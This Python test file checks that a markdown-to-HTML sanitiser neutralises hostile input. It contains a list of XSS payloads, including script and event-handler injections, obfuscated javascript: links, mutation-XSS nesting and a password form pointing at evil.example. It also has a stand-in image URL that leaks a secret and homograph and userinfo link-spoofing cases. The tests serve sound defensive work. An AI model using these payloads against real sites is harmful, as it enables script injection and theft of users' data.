import re
from html.parser import HTMLParser

import pytest
from hypothesis import given
from hypothesis import strategies as st

from operalta.web.markdown import (
    LONGEST_SOURCE,
    OUTWARD_REL,
    is_allowed_address,
    outward_host,
    to_html,
)

HOSTILE = [
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<svg onload=alert(1)>",
    "<svg><animate onbegin=alert(1) attributeName=x>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<a href='javascript:alert(1)'>x</a>",
    "<form action=//evil.example><input name=password></form>",
    "<base href=//evil.example>",
    "<meta http-equiv=refresh content='0;url=//evil.example'>",
    "<style>*{background:url(//evil.example)}</style>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<!--><img src=x onerror=alert(1)>-->",
    "<![CDATA[<img src=x onerror=alert(1)>]]>",
    "<x-y onclick=alert(1) style=position:fixed>x</x-y>",
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x](java\tscript:alert(1))",
    "[x](java&#10;script:alert(1))",
    "[x](&#x6a;avascript:alert(1))",
    "[x](\x01javascript:alert(1))",
    "[x](vbscript:msgbox(1))",
    "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "[x](blob:https://a.example/1)",
    "[x](file:///etc/passwd)",
    "[x]: javascript:alert(1)\n\n[x]",
    "<javascript:alert(1)>",
    "![x](javascript:alert(1))",
    '![x" onerror="alert(1)](https://evil.example/a.png)',
    '[x](https://evil.example/" onclick="alert(1))',
    "[x](https://evil.example/ '\" onclick=alert(1) x=\"')",
    "`<img src=x onerror=alert(1)>`",
    "```\n</code></pre><script>alert(1)</script>\n```",
    "```html onmouseover=alert(1)\nx\n```",
    "| <img src=x onerror=alert(1)> |\n|---|\n| <script>alert(1)</script> |",
    "# <svg/onload=alert(1)>",
    "**<b onclick=alert(1)>x</b>**",
    "\u2028<script>alert(1)</script>",
    "<scr\x00ipt>alert(1)</scr\x00ipt>",
]


class Reading(HTMLParser):
    """What a page is made of: its elements with their attributes, and its text."""

    def __init__(self, html: str) -> None:
        super().__init__()
        self.elements: list[tuple[str, dict[str, str | None]]] = []
        self.text = ""
        self.feed(html)
        self.close()

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.elements.append((tag, dict(attrs)))

    def handle_data(self, data: str) -> None:
        self.text += data


ALLOWED = {
    "p",
    "br",
    "hr",
    "h2",
    "h3",
    "h4",
    "h5",
    "h6",
    "ul",
    "ol",
    "li",
    "blockquote",
    "pre",
    "code",
    "a",
    "span",
} | {*("em", "strong", "s", "table", "thead", "tbody", "tr", "th", "td")}


def assert_inert(html: str) -> None:
    for tag, attributes in Reading(html).elements:
        assert tag in ALLOWED
        assert set(attributes) <= {"href", "rel", "class", "start"}
        assert is_allowed_address(attributes.get("href") or "")


def links(html: str) -> list[dict[str, str | None]]:
    return [attributes for tag, attributes in Reading(html).elements if tag == "a"]


@pytest.mark.proves("3.4.4")
@pytest.mark.parametrize("source", HOSTILE)
def test_hostile_text_is_inert(source: str) -> None:
    assert_inert(to_html(source))


@pytest.mark.proves("3.4.4")
@given(st.text(alphabet=st.sampled_from("<>\"'`&;:/\\[]()!#*_~|=- \n\tajvscript:onlerimg\x00\u202e{}"), max_size=200))
def test_no_text_becomes_more_than_the_allowed(source: str) -> None:
    assert_inert(to_html(source))


def test_raw_html_stays_text() -> None:
    assert Reading(to_html("a <b>bold</b> claim")).text.strip() == "a <b>bold</b> claim"


@pytest.mark.proves("3.4.4")
def test_pictures_are_not_loaded_but_described_and_linked() -> None:
    html = to_html("![the plan](https://leak.example/p.png?q=secret)")
    assert "<img" not in html
    assert "Picture: the plan" in html
    assert "(leak.example)" in html
    assert links(html)[0]["rel"] == OUTWARD_REL


def test_a_picture_inside_a_link_makes_no_link_in_a_link() -> None:
    html = to_html("[![badge](https://a.example/b.svg)](https://b.example)")
    assert len(links(html)) == 1
    assert "Picture: badge" in html


@pytest.mark.proves("3.4.4")
@pytest.mark.parametrize(
    ("source", "host"),
    [
        ("[bank.example](https://evil.example)", "evil.example"),
        ("[https://bank.example](https://bank.example@evil.example/)", "evil.example"),
        ("[x](//evil.example/path)", "evil.example"),
        ("[x](http:evil.example)", "evil.example"),
        ("[x](https://xn--80ak6aa92e.com)", "xn--80ak6aa92e.com"),
        ("[x](https://\u0430\u0440\u0440\u04cf\u0435.com)", "xn--80ak6aa92e.com"),
        ("[x](https://evil.example:8443/)", "evil.example:8443"),
    ],
)
def test_a_link_that_leaves_shows_where_to(source: str, host: str) -> None:
    html = to_html(source)
    assert f"({host})" in Reading(html).text
    assert links(html)[0]["rel"] == OUTWARD_REL


def test_a_bare_address_is_its_own_host() -> None:
    html = to_html("<https://docs.example/guide>")
    assert "(docs.example)" not in html
    assert links(html)[0]["rel"] == OUTWARD_REL


@pytest.mark.parametrize("address", ["/c/lumen/memory", "?page=2", "#top", "mailto:ada@lumen.example"])
def test_links_within_the_site_stay_as_they_are(address: str) -> None:
    assert links(to_html(f"[x]({address})")) == [{"href": address}]


@pytest.mark.parametrize("address", ["tel:+41", "ftp://a.example", "custom:x", "https://", "http://[::"])
def test_other_schemes_stay_text(address: str) -> None:
    assert links(to_html(f"[x]({address})")) == []


def test_hosts_are_read_as_browsers_read_them() -> None:
    assert outward_host("/\\evil.example") == "evil.example"
    assert outward_host("https:evil.example") == "evil.example"
    assert outward_host("/local") is None


def test_headings_begin_below_those_of_the_page() -> None:
    assert re.findall(r"<(h\d)>", to_html("# a\n\n## b\n\n###### c")) == ["h3", "h4", "h6"]
    assert re.findall(r"<(h\d)>", to_html("# a\n\n## b", first_heading=2)) == ["h2", "h3"]


def test_tables_are_aligned_by_class() -> None:
    html = to_html("| a | b |\n|--:|:-:|\n| 1 | 2 |")
    assert 'class="align-right"' in html
    assert 'class="align-center"' in html
    assert "style" not in html


def test_too_long_a_text_is_shown_as_typed() -> None:
    html = to_html("<b>" + "a" * LONGEST_SOURCE)
    assert html.startswith("<pre>&lt;b&gt;aaa")
